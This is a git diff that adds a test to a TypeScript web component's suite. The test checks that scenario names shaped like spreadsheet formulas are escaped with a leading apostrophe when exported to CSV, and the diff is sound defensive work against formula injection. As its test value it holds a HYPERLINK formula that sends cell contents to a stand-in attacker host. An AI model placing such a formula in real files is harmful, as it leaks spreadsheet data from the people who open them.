@@ -17,6 +17,7 @@ import type {
 } from '../../widgets/scenario-compare/events.js';
 import type { FactSource } from '../../src/core/types.js';
 import { toCrs } from '../../src/core/crs.js';
+import { parseCsvText } from '../../src/core/csv.js';
 import { demoSources } from './helpers/demo.js';
 import { listenerSnapshot, makeMap, sleep, until, type TestMap } from './helpers/map.js';
 
@@ -611,6 +612,19 @@ describe('<na-scenario-compare> loading files', function () {
     await el.updateComplete;
     expect(part(el, 'errors')!.textContent!.trim()).to.equal('');
     expect(live.textContent!.trim()).to.equal('');
+  });
+
+  it('a scenario named like a spreadsheet formula is exported as text in the CSV (issue #13)', async () => {
+    const { el } = mount();
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
+    el.addScenario(smallScenario(formula, ['gras', 'verharding']), 'formule.geojson');
+    el.addScenario(smallScenario('@SUM(A1)', ['wadi', 'verharding'], 100), 'som.geojson');
+    await el.whenComputed();
+    await el.updateComplete;
+    const rows = await parseCsvText(el.exportCsv()!);
+    expect(rows[0]!.cells.slice(3)).to.deep.equal([`'${formula}`, `'@SUM(A1)`]);
+    for (const row of rows)
+      for (const cell of row.cells) expect('=+-@\t\r', cell).not.to.contain(cell.charAt(0) || 'x');
   });
 
   it('loads the demo file the way QGIS wrote it, and a lon/lat file, by dropping them', async () => {
